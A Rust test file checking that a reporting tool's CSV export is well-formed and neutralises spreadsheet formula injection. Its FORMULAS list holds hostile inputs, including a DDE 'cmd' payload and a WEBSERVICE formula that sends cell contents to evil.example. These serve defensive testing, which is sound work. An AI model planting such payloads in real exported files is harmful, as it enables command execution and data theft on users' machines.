//! The table form: a golden copy, its shape, and cells that no spreadsheet calculates.

use proptest::prelude::*;
use unlisted_model::report::Report;
use unlisted_reporter::{Knowledge, render};

use crate::hostile_text::filled;
use crate::{config, sample};

pub(crate) fn table(report: &Report) -> String {
    let (words, routes, titles) = (config::words(), config::routes(), sample::titles());
    render::csv::report(report, &Knowledge { words: &words, routes: &routes, titles: &titles })
}

/// A reader of RFC 4180 that knows nothing of the writer.
fn read(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').expect("a mark");
    let (mut rows, mut row, mut cell) = (vec![], vec![], String::new());
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        assert_eq!(c, '"', "every cell is in quotes");
        loop {
            match chars.next().expect("a closing quote") {
                '"' if chars.peek() == Some(&'"') => cell.extend(chars.next()),
                '"' => break,
                other => cell.push(other),
            }
        }
        row.push(std::mem::take(&mut cell));
        match chars.next() {
            Some(',') => {}
            Some('\r') => {
                assert_eq!(chars.next(), Some('\n'));
                rows.push(std::mem::take(&mut row));
            }
            other => panic!("{other:?} after a cell"),
        }
    }
    rows
}

#[test]
fn one_row_for_each_place() {
    let report = sample::report_of(&sample::findings(), &config::routes());
    let text = table(&report);
    insta::assert_snapshot!("report.csv", text.replace('\r', ""));
    let rows = read(&text);
    let places: usize = report.subjects[0].exposures.iter().map(|e| e.places.len()).sum();
    assert_eq!(rows.len(), 1 + places);
    assert_eq!(rows[0], render::csv::COLUMNS);
    assert!(rows.iter().all(|row| row.len() == render::csv::COLUMNS.len()));
    let mut ids: Vec<&String> = rows.iter().skip(1).map(|row| &row[0]).collect();
    ids.sort();
    ids.dedup();
    assert_eq!(ids.len(), places, "an id for each row");
    assert!(text.contains("\"quiz.example\"") && !text.contains("quiz.example/"), "what nobody supplied is told by site");
}

#[test]
fn nothing_found_is_a_head_alone() {
    assert_eq!(read(&table(&sample::report_of(&[], &[]))).len(), 1);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn no_cell_is_a_formula(start in "[ \u{200b}\u{feff}\u{a0}\"]{0,3}[=+\\-@＝＋－＠\t\r\n]", rest in ".{0,20}") {
        let text = format!("{start}{rest}");
        for row in read(&table(&filled(&text, &text))) {
            prop_assert_eq!(row.len(), render::csv::COLUMNS.len());
            for cell in row {
                let first = cell.trim_start_matches([' ', '\u{a0}', '\u{200b}', '\u{feff}', '"']).chars().next();
                prop_assert!(!first.is_some_and(|c| "=+-@＝＋－＠\t\r\n\0".contains(c)), "{cell:?}");
            }
        }
    }
}

/// What a spreadsheet would calculate, fetch or run.
const FORMULAS: [&str; 12] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+44 7700 900123",
    "-2+3",
    "\t=1+1",
    "\r\n=1+1",
    " =HYPERLINK(\"https://evil.example\",\"x\")",
    "\u{feff}=1+1",
    "＝1+1",
    "\"=1+1",
    "=WEBSERVICE(\"https://evil.example/\"&A1)",
];

/// Python reads it, where it is installed. With `UNLISTED_KEEP=FILE` the table is left there, to be opened in a spreadsheet by hand.
#[test]
fn another_reader_reads_it() {
    let mut all = String::new();
    let mut rows = 0;
    for formula in FORMULAS {
        let text = table(&filled(formula, formula));
        let body = text.split_once("\r\n").expect("a head").1;
        rows += read(&text).len() - 1;
        if all.is_empty() {
            all.push_str(&text);
        } else {
            all.push_str(body);
        }
    }
    let kept = std::env::var_os("UNLISTED_KEEP").map(std::path::PathBuf::from);
    let file = kept.clone().unwrap_or_else(|| std::env::temp_dir().join(format!("unlisted-table-{}.csv", std::process::id())));
    std::fs::write(&file, &all).expect("a file");
    let tool = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/tools/read_csv.py");
    let python = std::env::var_os("UNLISTED_PYTHON").unwrap_or_else(|| "python3".into());
    let ran = std::process::Command::new(python).arg(tool).arg(&file).arg((rows + 1).to_string()).output();
    if kept.is_none() {
        std::fs::remove_file(&file).expect("it was made");
    }
    let Ok(ran) = ran else { return };
    assert!(ran.status.success(), "{}", String::from_utf8_lossy(&ran.stderr));
}
